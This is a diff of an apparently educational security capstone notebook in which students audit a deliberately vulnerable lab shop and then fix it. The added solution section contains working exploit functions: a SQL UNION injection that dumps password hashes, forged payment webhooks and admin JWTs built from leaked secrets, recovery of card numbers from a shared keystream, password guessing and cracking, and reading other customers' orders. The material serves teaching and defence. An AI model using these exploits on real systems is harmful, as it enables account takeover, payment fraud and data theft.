@@ -16,8 +16,8 @@
 #
 # Your job is the one a security reviewer gets on a new codebase:
 #
-# 1. **Audit** — find where each anti-pattern lives. Mark the route; the check confirms each
-#    mark only by running that anti-pattern's exploit at that route of the live shop.
+# 1. **Audit** — find the flaws and *show* each one: a finding is the route, the weakness and
+#    your exploit; the check replays the exploit on a fresh shop and judges what it got.
 # 2. **Fix** — write the fix for each row. Every slot has the same signature as in the lab that
 #    taught it, so you can bring the functions you wrote there.
 # 3. **Verify** — all your fixes in one shop, and the batteries of labs 01–12 replayed against it.
@@ -35,23 +35,19 @@ import secrets
 import httpx
 
 import labkit
-from labkit.attacks import cors, injection
 from labkit.attacks import jwt as jwt_attacks
-from labkit.attacks.bruteforce import brute_force
-from labkit.attacks.cracking import crack_unsalted, equal_hash_groups
+from labkit.attacks.cracking import crack_unsalted
 from labkit.attacks.crypto import recover_with_known_plaintext
 from labkit.attacks.secret_scan import scan_text
-from labkit.attacks.timing import probe_logins
+from labkit.sandbox.apps.shop.runner import ShopClient
 from labkit.wordlists import common_passwords
 
 lab = labkit.open_lab("13-capstone")
 
 
-def bearer(who: str) -> dict[str, str]:
-    """Log a seeded user in; the Authorization header their browser would send."""
-    user = lab.users[who]
-    body = lab.client.post("/api/auth/login", json={"email": user.email, "password": user.password})
-    return {"Authorization": f"Bearer {body.json()['accessToken']}"}
+def shop_client():
+    """A client for the live shop, as the check hands one to your exploits (.urls included)."""
+    return ShopClient(lab.urls, getattr(lab.sandbox, "ca_pem", None), None)
 
 
 lab
@@ -82,87 +78,293 @@ lab.urls
 # | 10 | No HTTPS redirect | Force HTTPS + HSTS header | 09-encryption |
 # | 11 | Symmetric JWT for multi-service | Use RS256/ES256 (asymmetric) for distributed | 02-jwt |
 # | 12 | No input length limits | Max length on all string inputs | 07-injection |
-#
+
+
+# %% [markdown]
 # ## Part 1 — Audit
 #
-# A reviewer starts from the surface: every route the shop serves (its OpenAPI document), and
-# what an attacker would hold after a breach (the database file, served here by the lab-only
-# route `/api/_lab/breach`).
+# Nobody hands a reviewer a list of where the flaws are. You get the running shop, its API
+# document and — because the repository went public by mistake — part of its source. A finding
+# is what you write down when you can **show** a flaw, not when you suspect one:
+#
+# ```python
+# {"routes": ["METHOD /path"],           # where the flaw lives (the route your exploit uses)
+#  "weakness": "fast-password-hash",     # a row id of the table above — or "other" ...
+#  "cwe": "CWE-639",                     # ... with the closest CWE id (cwe.mitre.org)
+#  "exploit": my_exploit}                # my_exploit(client) -> evidence
+# ```
+#
+# `exploit(client)` is your attack as a function: `client` is an `httpx.Client` aimed at a shop
+# (`client.urls` names its other listeners), and it returns the **evidence** — what the attack
+# got you: a token, a secret, `{email: password}`, a card number, a list of customers, or the
+# response itself. The check runs each exploit against a **fresh** BrokenShop (new passwords,
+# secrets, keys and cards: a pasted value proves nothing) and judges the evidence against what
+# that shop holds; then against the secure shop, where it must show nothing. A finding counts
+# once its exploit shows its weakness, at a route it really used. Beyond the twelve rows the
+# shop has more to find: each other flaw you show (as `"other"` with its CWE) is a bonus.
+#
+# ### How to audit
+#
+# 1. **Map the surface.** The API document lists the routes; the traffic inspector shows what
+#    the shop's own front end sends; `lab.urls` shows every listener (plain HTTP, a second
+#    service). An attacker also holds a few things the lab serves under `/api/_lab/`: the stolen
+#    database (`breach`), the public repository (`source`), a partner's old log
+#    (`old-config`), a bought mailing list (`mailing-list`).
+# 2. **Read the source** you have: what does each function trust, compute, store, answer?
+# 3. **Go route by route** with a reviewer's five questions: *authentication* (who may call it,
+#    and may they touch *this* object?), *input* (what type, how long, where does it end up?),
+#    *secrets* (what signs or checks it, where does that key live, does it expire?),
+#    *transport* (plain HTTP? who may read the answer from another origin?), *crypto* (which
+#    hash, which cipher, whose library?) — and what it says when it **fails**.
+# 4. **Prove it** with the labs' tools: every exploit of labs 01–12 works against a route here.
 
 # %%
 routes = lab.routes()  # from the shop's OpenAPI document
 print(f"{len(routes)} routes:", *routes, sep="\n  ")
 
 # %%
-breach = lab.client.get("/api/_lab/breach").json()
+files = lab.client.get("/api/_lab/source").json()["files"]  # the leaked repository
+print(*files, sep="\n")
+print(files["shop/orders.py"])
+
+# %%
+breach = lab.client.get("/api/_lab/breach").json()  # the stolen database file
 {table: len(rows) for table, rows in breach.items()}
 
 # %% [markdown]
-# Questions to ask of each row (the labs gave you the tools — `labkit.attacks` — for each):
+# A worked example opens the cell below: the shop's plain-HTTP listener. Its exploit asks for a
+# page over `http://` and returns the answer; the check looks at where it came from and what
+# the shop said.
 #
-# 1. Which answer hands a long-lived token to the page's JavaScript?
-# 2. Where does a password get stored — and does the breach show `$argon2id$…` or 32 hex digits?
-# 3. Which request is trusted because of a secret — and is that secret in the source?
-# 4. Does *any* route answer an attacker's `Origin` with credentials? (`cors.probe_origin`)
-# 5. Do a wrong password and an unknown email get the same answer?
-# 6. How many wrong passwords does the login take before it says 429?
-# 7. Which stored values are encrypted — and with what?
-# 8. Which query parameter ends up inside SQL?
-# 9. Which route takes an `X-API-Key`, and does an old key still work?
-# 10. What does the plain-HTTP listener (`lab.urls["http"]`) do with a request?
-# 11. Who else verifies the shop's tokens, and with which key?
-# 12. Which route stores a string of any length?
-#
-# Mark each row with the route where its exploit works, as `"METHOD /path"`. Pick them in the
-# checklist below (it writes into `MARKS`) or type them; then confirm. A wrong mark is not a
-# penalty — the check tells you which marks its exploit confirmed.
+# Then yours: write one exploit per flaw and add its finding to `FINDINGS`. Stuck? Run
+# `lab.hints("audit")`: the hints go from method to route, one at a time (each one you reveal
+# is recorded in your progress).
 
 # %% labkit={"answer": "audit"}
+def customer(client):
+    """Sign up a fresh customer on the shop `client` points at; its Authorization header."""
+    email, password = f"me-{secrets.token_hex(4)}@shop.example", secrets.token_urlsafe(12)
+    client.post("/api/auth/register", json={"email": email, "password": password})
+    token = client.post("/api/auth/login", json={"email": email, "password": password}).json()
+    return {"Authorization": f"Bearer {token['accessToken']}"}
+
+
+def plain_http(client):
+    """No HTTPS redirect: the shop answers over http:// (evidence: that answer)."""
+    return httpx.get(client.urls["http"] + "/api/status", follow_redirects=False, trust_env=False)
+
+
+example = {"routes": ["GET /api/status"], "weakness": "no-https-redirect", "exploit": plain_http}
+
+
 ### BEGIN SOLUTION
-MARKS = {
-    "jwt-in-localstorage": "POST /api/auth/login",
-    "fast-password-hash": "POST /api/auth/register",
-    "hardcoded-secret": "POST /api/webhooks/payment",
-    "cors-wildcard": "GET /api/account",
-    "login-enumeration": "POST /api/auth/login",
-    "no-auth-rate-limit": "POST /api/auth/login",
-    "homemade-crypto": "POST /api/cards",
-    "trusting-input": "GET /api/users",
-    "eternal-api-key": "GET /api/v1/reports",
-    "no-https-redirect": "GET /api/status",
-    "symmetric-jwt": "GET /api/admin/orders",
-    "no-length-limits": "POST /api/reviews",
-}
+def sign_in(client, email, password):
+    return client.post("/api/auth/login", json={"email": email, "password": password})
+
+
+def steal_refresh_token(client):
+    """The login's JSON carries a refresh token (the page keeps it in localStorage)."""
+    email, password = f"me-{secrets.token_hex(4)}@shop.example", secrets.token_urlsafe(12)
+    client.post("/api/auth/register", json={"email": email, "password": password})
+    return sign_in(client, email, password).json().get("refreshToken")
+
+
+def crack_breach(client):
+    """Unsalted MD5/SHA-256 in the stolen table: one wordlist pass cracks them all."""
+    users = client.get("/api/_lab/breach").json()["users"]
+    cracked = crack_unsalted({u["email"]: u["password_hash"] for u in users},
+                             common_passwords(2000))  # fmt: skip
+    return {e: p for e, p in cracked.items() if sign_in(client, e, p).status_code == 200}
+
+
+def forge_payment(client):
+    """The webhook secret is in the public source: sign a 'paid' event myself."""
+    files = client.get("/api/_lab/source").json()["files"]
+    leaked = [f.secret for path, text in files.items() for f in scan_text(text, path)]
+    headers = customer(client)
+    order = client.post("/api/orders", json={"item": "espresso machine"}, headers=headers).json()
+    event = json.dumps({"type": "payment.succeeded", "orderId": order["id"]}).encode()
+    for secret in leaked:
+        signature = "sha256=" + hmac.new(secret.encode(), event, hashlib.sha256).hexdigest()
+        client.post("/api/webhooks/payment", content=event, headers={"X-Signature": signature})
+        if client.get(f"/api/orders/{order['id']}", headers=headers).json()["status"] == "paid":
+            return secret
+    return None
+
+
+def read_from_evil_origin(client):
+    """Any Origin may read a logged-in customer's account with credentials."""
+    return client.get("/api/account",
+                      headers={**customer(client), "Origin": "https://evil.example.net"})  # fmt: skip
+
+
+def who_shops_here(client):
+    """An unknown email and a wrong password get different answers."""
+    emails = client.get("/api/_lab/mailing-list").json()["emails"]
+    nobody = sign_in(client, f"nobody-{secrets.token_hex(4)}@mail.example", "x").json()
+    return [e for e in emails if sign_in(client, e, "x").json() != nobody]
+
+
+def guess_online(client):
+    """Nothing counts failed logins: the 100 most common passwords, one after the other."""
+    for password in common_passwords(100):
+        answer = sign_in(client, "dana@shop.example", password)
+        if answer.status_code == 200:
+            return {"dana@shop.example": password}
+        if answer.status_code == 429:
+            return None
+    return None
+
+
+def recover_cards(client):
+    """One keystream for every card: my known card XOR the others' ciphertexts."""
+    known = "4242424242424242"
+    mine = client.post("/api/cards", json={"number": known, "holder": "Me"},
+                       headers=customer(client)).json()  # fmt: skip
+    cards = {c["id"]: json.loads(c["stored"]) for c in client.get("/api/_lab/breach").json()["cards"]}
+    mine_ct = base64.b64decode(cards.pop(mine["id"])["ciphertext"])
+    return [recover_with_known_plaintext(base64.b64decode(c["ciphertext"]), mine_ct,
+                                         known.encode(), tag=0).decode("latin-1")
+            for c in cards.values()]  # fmt: skip
+
+
+def union_hashes(client):
+    """The friend lookup pastes the email into SQL: UNION in the password hashes."""
+    payload = ("' UNION SELECT id, email, role, password_hash, token_version, password_hash, "
+               "age FROM users --")  # fmt: skip
+    return client.get("/api/users", params={"email": payload}, headers=customer(client)).json()
+
+
+def old_partner_key(client):
+    """Last year's key from a partner's log still reads the reports."""
+    log = client.get("/api/_lab/old-config").json()["content"]
+    key = log.split("REPORTS_API_KEY=")[1].split()[0]
+    reports = client.get("/api/v1/reports", headers={"X-API-Key": key})
+    return key if reports.status_code == 200 else None
+
+
+def forge_admin(client):
+    """Shipping prints the shared HS256 secret: sign myself an admin token."""
+    config = httpx.get(client.urls["shipping"] + "/debug/config", trust_env=False).json()
+    secret = config["env"].get("SHOP_JWT_SECRET")
+    if secret is None:
+        return None
+    header, claims = jwt_attacks.decode_unverified(customer(client)["Authorization"][7:])
+    token = jwt_attacks.forge(header, {**claims, "role": "admin"}, secret.encode())
+    admin = client.get("/api/admin/orders", headers={"Authorization": f"Bearer {token}"})
+    return token if admin.status_code == 200 else None
+
+
+def huge_review(client):
+    """A review of 100,000 characters is stored (and shipped with the product page)."""
+    return client.post("/api/reviews", json={"productId": 1, "rating": 5, "text": "A" * 100_000},
+                       headers=customer(client))  # fmt: skip
+
+
+def huge_email(client):
+    """Sign-up stores a 5,000-character email."""
+    return client.post("/api/auth/register",
+                       json={"email": "a" * 5000 + "@shop.example", "password": "x"})  # fmt: skip
+
+
+def other_orders(client):
+    """Order ids count up, and any customer may read any of them."""
+    headers = customer(client)
+    mine = client.post("/api/orders", json={"item": "kite"}, headers=headers).json()["id"]
+    found = [client.get(f"/api/orders/{n}", headers=headers) for n in range(1, mine)]
+    return [r.json() for r in found if r.status_code == 200]
+
+
+def staff_ages(client):
+    """The friend lookup shows age and role to any customer."""
+    headers = customer(client)
+    return [client.get("/api/users", params={"email": e}, headers=headers).json()
+            for e in ("alice@example.com", "bob@example.com", "carol@example.com")]  # fmt: skip
+
+
+def sql_error_text(client):
+    """A quote in the lookup: the 500 prints SQLite's message."""
+    return client.get("/api/users", params={"email": "'"}, headers=customer(client)).json()
+
+
+def echoed_password(client):
+    """A malformed login: the 422 repeats the password it was sent."""
+    return client.post("/api/auth/login",
+                       json={"email": "alice@example.com", "password": ["hunter2"]})  # fmt: skip
+
+
+FINDINGS = [
+    example,
+    {"routes": ["POST /api/auth/login"], "weakness": "jwt-in-localstorage",
+     "exploit": steal_refresh_token},
+    {"routes": ["POST /api/auth/login"], "weakness": "fast-password-hash", "exploit": crack_breach},
+    {"routes": ["POST /api/webhooks/payment"], "weakness": "hardcoded-secret",
+     "exploit": forge_payment},
+    {"routes": ["GET /api/account"], "weakness": "cors-wildcard", "exploit": read_from_evil_origin},
+    {"routes": ["POST /api/auth/login"], "weakness": "login-enumeration",
+     "exploit": who_shops_here},
+    {"routes": ["POST /api/auth/login"], "weakness": "no-auth-rate-limit", "exploit": guess_online},
+    {"routes": ["POST /api/cards"], "weakness": "homemade-crypto", "exploit": recover_cards},
+    {"routes": ["GET /api/users"], "weakness": "trusting-input", "exploit": union_hashes},
+    {"routes": ["GET /api/v1/reports"], "weakness": "eternal-api-key", "exploit": old_partner_key},
+    {"routes": ["GET /api/admin/orders"], "weakness": "symmetric-jwt", "exploit": forge_admin},
+    {"routes": ["POST /api/reviews"], "weakness": "no-length-limits", "exploit": huge_review},
+    {"routes": ["POST /api/auth/register"], "weakness": "other", "cwe": "CWE-770",
+     "exploit": huge_email},
+    {"routes": ["GET /api/orders/{order_id}"], "weakness": "other", "cwe": "CWE-639",
+     "exploit": other_orders},
+    {"routes": ["GET /api/users"], "weakness": "other", "cwe": "CWE-213", "exploit": staff_ages},
+    {"routes": ["GET /api/users"], "weakness": "other", "cwe": "CWE-209",
+     "exploit": sql_error_text},
+    {"routes": ["POST /api/auth/login"], "weakness": "other", "cwe": "CWE-209",
+     "exploit": echoed_password},
+]  # fmt: skip
 ### STUB
-MARKS = {
-    "jwt-in-localstorage": None,
-    "fast-password-hash": None,
-    "hardcoded-secret": None,
-    "cors-wildcard": None,
-    "login-enumeration": None,
-    "no-auth-rate-limit": None,
-    "homemade-crypto": None,
-    "trusting-input": None,
-    "eternal-api-key": None,
-    "no-https-redirect": None,
-    "symmetric-jwt": None,
-    "no-length-limits": None,
-}
+# TODO: one exploit(client) -> evidence per flaw you can show, and its finding:
+# {"routes": ["METHOD /path"], "weakness": "<row id>" or "other", "cwe": ..., "exploit": ...}
+FINDINGS = [
+    example,
+]
 ### END SOLUTION
 
 # %%
-labkit.audit_checklist(lab, MARKS)
+with shop_client() as client:  # the worked example, against the live shop
+    print(plain_http(client))
+lab.hints("audit")
+
+# %% [markdown]
+# Your findings as a table; its button replays them all (the same as the check below).
+
+# %%
+labkit.audit_checklist(lab, FINDINGS)
 
 # %% labkit={"check": "audit"}
-lab.check("audit", MARKS)
+lab.check("audit", findings=FINDINGS)
 
 # %% [markdown]
 # ## Part 2 — Fix, row by row
 #
-# Each row below shows its exploit against the live shop, then asks for the fix. A fix check
-# starts a fresh BrokenShop with your functions plugged in and replays the battery of the lab
-# that taught the row. Only that row's functions are needed; the others stay broken.
-#
+# Each row below replays **your** finding against the live shop (`replay(row)`), then asks for
+# the fix. A fix check starts a fresh BrokenShop with your functions plugged in and replays the
+# battery of the lab that taught the row. Only that row's functions are needed; the others stay
+# broken.
+
+# %%
+def replay(weakness):
+    """Run your finding for `weakness` (a row id or a CWE) against the live shop."""
+    finding = next((f for f in FINDINGS if weakness in (f.get("weakness"), f.get("cwe"))), None)
+    if finding is None:
+        return f"(no finding for {weakness} yet: add one to FINDINGS in Part 1)"
+    with shop_client() as client:
+        try:
+            evidence = finding["exploit"](client)
+        except Exception as exc:  # your exploit, not the lab
+            return f"your exploit raised {type(exc).__name__}: {exc}"
+    if isinstance(evidence, httpx.Response):
+        return f"{evidence.request.method} {evidence.url} -> {evidence.status_code} {evidence.text[:300]}"
+    return str(evidence)[:400]
+
+# %% [markdown]
 # ### 1 · JWT in localStorage → httpOnly secure cookie (refresh), memory (access)
 #
 # Anything a page's JavaScript can read, an XSS payload or a compromised third-party script can
@@ -175,11 +377,8 @@ lab.check("audit", MARKS)
 # them:
 
 # %%
-carol = lab.users["carol"]
-body = lab.client.post("/api/auth/login", json={"email": carol.email, "password": carol.password}).json()
-print(lab.client.get("/static/app.js").text.strip()[:400])
-fresh = lab.client.post("/api/auth/refresh", json={"refreshToken": body["refreshToken"]})
-print(fresh.status_code, sorted(fresh.json()), "— a script that read storage once refreshes for 30 days")
+print(lab.client.get("/static/app.js").text.strip()[:400])  # the front end
+replay("jwt-in-localstorage")
 
 # %% [markdown]
 # Write lab 02's `refresh_cookie`. With it, the shop answers only `{"accessToken"}`, sends the
@@ -214,10 +413,7 @@ lab.check("fix-jwt-in-localstorage", refresh_cookie=refresh_cookie)
 # keeps verifying them and replaces each at the user's next login.
 
 # %%
-lab.client.post("/api/auth/register", json={"email": "me@shop.example", "password": "sunshine"})
-leak = {u["email"]: u["password_hash"] for u in lab.client.get("/api/_lab/breach").json()["users"]}
-print(crack_unsalted(leak, common_passwords(2000)))
-print("equal hashes:", equal_hash_groups(leak))
+replay("fast-password-hash")
 
 # %% [markdown]
 # Bring lab 01's trio. `verify_password` must still accept the shop's old unsalted MD5 and
@@ -287,14 +483,7 @@ lab.check("fix-fast-password-hash", hash_password=hash_password,
 # the body; the shop's repository went public.
 
 # %%
-files = lab.client.get("/api/_lab/source").json()["files"]
-found = [finding for path, text in files.items() for finding in scan_text(text, path)]
-print(found)
-order = lab.client.post("/api/orders", json={"item": "espresso machine"}, headers=bearer("carol")).json()
-event = json.dumps({"type": "payment.succeeded", "orderId": order["id"]}).encode()
-forged = "sha256=" + hmac.new(found[0].secret.encode(), event, hashlib.sha256).hexdigest()
-lab.client.post("/api/webhooks/payment", content=event, headers={"X-Signature": forged})
-print("order", order["id"], "is", lab.client.get(f"/api/orders/{order['id']}", headers=bearer("carol")).json()["status"])
+replay("hardcoded-secret")
 
 # %% [markdown]
 # Write `webhook_secret(env)`. With it, the deployment puts a fresh (rotated) secret in the
@@ -338,10 +527,7 @@ lab.check("fix-hardcoded-secret", webhook_secret=webhook_secret)
 # V3.4.2). The shop's one front end is `https://app.example.com`.
 
 # %%
-evil = "https://evil.example.net"
-print(cors.probe_origin(lab.client, evil, path="/api/account"))
-stolen = lab.client.get("/api/account", headers={"Origin": evil, **bearer("alice")})
-print(stolen.headers["access-control-allow-origin"], stolen.json())
+replay("cors-wildcard")
 
 # %% [markdown]
 # <!-- labkit:rules fix-cors-wildcard -->
@@ -374,7 +560,7 @@ lab.check("fix-cors-wildcard", cors_settings=cors_settings)
 # Sign-up's "Email already registered" is a known, accepted leak; rate limiting (row 6) covers it.
 
 # %%
-probe_logins(lab.client, [lab.users["alice"].email, "dana@shop.example", "nobody@shop.example"])
+replay("login-enumeration")
 
 # %% [markdown]
 # Bring lab 01's `login`. It uses row 2's functions (run that cell first): its dummy hash is
@@ -419,7 +605,7 @@ lab.check("fix-login-enumeration", login=login)
 # `limits` moving window, 5 failures per 15 minutes per key) counts what your `login_keys` returns.
 
 # %%
-brute_force(lab.client, "dana@shop.example", common_passwords(100))
+replay("no-auth-rate-limit")
 
 # %% [markdown]
 # <!-- labkit:rules fix-no-auth-rate-limit -->
@@ -449,16 +635,7 @@ lab.check("fix-no-auth-rate-limit", login_keys=login_keys)
 # unreadable at rest; 3.4.1 masked when shown.
 
 # %%
-KNOWN = "4242424242424242"  # a test card: its number is your known plaintext
-mine = lab.client.post("/api/cards", json={"number": KNOWN, "holder": "Bob Okafor"}, headers=bearer("bob")).json()
-breach = lab.client.get("/api/_lab/breach").json()
-alice_id = next(u["id"] for u in breach["users"] if u["email"] == "alice@example.com")
-stored = {c["id"]: json.loads(c["stored"]) for c in breach["cards"]}
-alice_card = next(json.loads(c["stored"]) for c in breach["cards"] if c["owner_id"] == alice_id)
-number = recover_with_known_plaintext(base64.b64decode(alice_card["ciphertext"]),
-                                      base64.b64decode(stored[mine["id"]]["ciphertext"]),
-                                      KNOWN.encode(), tag=0)  # fmt: skip
-print("alice's card:", number.decode(), "— she sees", lab.client.get("/api/cards", headers=bearer("alice")).json())
+replay("homemade-crypto")
 
 # %% [markdown]
 # Bring lab 09's pair. The shop passes `record_id="card:<id>"`, the key id and the 32-byte key.
@@ -518,14 +695,7 @@ lab.check("fix-homemade-crypto", encrypt_record=encrypt_record, decrypt_record=d
 # and `_` are wildcards there). ASVS 5.0 V1.2.4.
 
 # %%
-lab.client.headers.update(bearer("carol"))  # the lookup is for logged-in customers
-print(injection.lookup(lab.client, "alice@example.com'").json())
-columns = injection.column_count(lab.client)
-rows = injection.union_read(
-    lab.client, "SELECT id, email, role, password_hash, token_version, password_hash, age FROM users"
-)
-del lab.client.headers["Authorization"]
-print(columns, "columns;", {r["email"]: r["name"] for r in rows})
+replay("trusting-input")
 
 # %% [markdown]
 # <!-- labkit:rules fix-trusting-input -->
@@ -557,11 +727,7 @@ lab.check("fix-trusting-input", find_users=find_users)
 # same 401 (RFC 9110 §15.5.2), a live key without the scope 403 (§15.5.4).
 
 # %%
-log = lab.client.get("/api/_lab/old-config").json()  # a partner's integration log from last year
-leaked = log["content"].split("REPORTS_API_KEY=")[1].split()[0]
-print(log["path"])
-reports = lab.client.get("/api/v1/reports", headers={"X-API-Key": leaked})
-print(reports.status_code, str(reports.json())[:200])
+replay("eternal-api-key")
 
 # %% [markdown]
 # <!-- labkit:rules fix-eternal-api-key -->
@@ -605,9 +771,7 @@ lab.check("fix-eternal-api-key", authenticate=authenticate)
 # Security Cheat Sheet.
 
 # %%
-plain = httpx.get(lab.urls["http"] + "/api/status", follow_redirects=False, trust_env=False)
-print(plain.status_code, plain.headers.get("location"), "| HSTS over HTTPS:",
-      lab.client.get("/api/status").headers.get("strict-transport-security"))  # fmt: skip
+replay("no-https-redirect")
 
 # %% [markdown]
 # <!-- labkit:rules fix-no-https-redirect -->
@@ -650,13 +814,7 @@ lab.check("fix-no-https-redirect", effective_scheme=effective_scheme,
 # the algorithm (RFC 8725 §3.1): no `alg: none`, no HS256 keyed with the public key.
 
 # %%
-config = httpx.get(lab.urls["shipping"] + "/debug/config", trust_env=False).json()
-shared = config["env"]["SHOP_JWT_SECRET"]
-access = bearer("carol")["Authorization"].removeprefix("Bearer ")
-header, claims = jwt_attacks.decode_unverified(access)
-forged_admin = jwt_attacks.forge(header, {**claims, "role": "admin"}, shared.encode())
-for token in (access, forged_admin):
-    print(lab.client.get("/api/admin/orders", headers={"Authorization": f"Bearer {token}"}).status_code)
+replay("symmetric-jwt")
 
 # %% [markdown]
 # Write lab 02's pair for ES256. The shop's `keys` is `{"access": <P-256 private key>,
@@ -711,7 +869,7 @@ lab.check("fix-symmetric-jwt", issue_tokens=issue_tokens, verify_token=verify_to
 # %% [markdown]
 # ### 12 · No input length limits → Max length on all string inputs
 #
-# `POST /api/reviews` stores whatever it gets: a million-character review, a rating of
+# The shop's reviews store whatever they get: a million-character review, a rating of
 # `"five"`, a text that is a list. Every product page then ships that megabyte to every
 # visitor (OWASP API Security Top 10 2023, API4: *Unrestricted Resource Consumption*). The OWASP
 # Input Validation Cheat Sheet: an allowlist schema for every input — type, length, range — here
@@ -721,11 +879,7 @@ lab.check("fix-symmetric-jwt", issue_tokens=issue_tokens, verify_token=verify_to
 # review, 2,000 emoji escaped as JSON, is about 24 KB (so 07's smallest cap, 16 KiB, is not).
 
 # %%
-review = {"productId": 1, "rating": 5, "text": "A" * 1_000_000}
-big = lab.client.post("/api/reviews", json=review, headers=bearer("carol"))
-odd = lab.client.post("/api/reviews", json={"productId": 1, "rating": "five", "text": ["not", "text"]},
-                      headers=bearer("carol"))  # fmt: skip
-print(big.status_code, odd.status_code, f"— the product page now weighs {len(lab.client.get('/api/products/1').content):,} bytes")
+replay("no-length-limits")
 
 # %% [markdown]
 # <!-- labkit:rules fix-no-length-limits -->
@@ -784,8 +938,11 @@ lab.check("fix-no-length-limits", validate_review=validate_review, body_too_larg
 #
 # Fixes interact: the rate limiter sees the logins of every other battery, the HTTPS redirect
 # sits in front of every route, the new signing keys sign every token. This check plugs all
-# your functions into one BrokenShop and replays the twelve batteries against it. Each problem
-# names its row, then the rule of that row's fix check it breaks.
+# your functions into one BrokenShop and replays the twelve batteries against it — and then
+# **your own findings**: each exploit of Part 1 runs again, unchanged, against your fixed shop,
+# where it must show nothing ("your finding 4 is now refused"). A bonus flaw has no slot in this
+# lab, so its finding is only reported. Each problem names its row, then the rule of that row's
+# fix check it breaks.
 #
 # <!-- labkit:rules verify -->
 
@@ -801,7 +958,7 @@ FIXES = dict(
 )  # fmt: skip
 
 # %% labkit={"check": "verify"}
-lab.check("verify", **FIXES)
+lab.check("verify", findings=FINDINGS, **FIXES)
 
 # %% [markdown]
 # ## Your course
